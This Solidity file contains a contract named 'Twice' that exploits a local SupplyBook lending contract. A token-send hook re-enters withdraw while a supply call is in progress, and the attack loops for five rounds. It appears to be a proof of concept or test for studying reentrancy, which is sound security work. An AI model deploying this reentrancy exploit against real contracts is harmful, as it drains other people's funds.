// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {HookToken, IHook} from "./HookToken.sol";
import {SupplyBook} from "./SupplyBook.sol";

/// @title Withdraws all it supplied while it supplies a little more, and so keeps it in the book
contract Twice is IHook {
    SupplyBook private immutable book;
    HookToken private immutable token;
    bool private armed;

    constructor(SupplyBook book_) {
        book = book_;
        token = HookToken(address(book_.token()));
    }

    function attack() external {
        token.approve(address(book), type(uint256).max);
        token.tellMe();
        for (uint256 round; round < 5; round++) {
            uint256 all = token.balanceOf(address(this));
            book.supply(all - 1);
            armed = true;
            book.supply(1);
            armed = false;
            uint256 held = token.balanceOf(address(book));
            uint256 own = book.supplied(address(this));
            book.withdraw(own < held ? own : held);
        }
    }

    function tokensToSend(address, address, address, uint256, bytes calldata, bytes calldata) external {
        if (armed) book.withdraw(book.supplied(address(this)));
    }
}
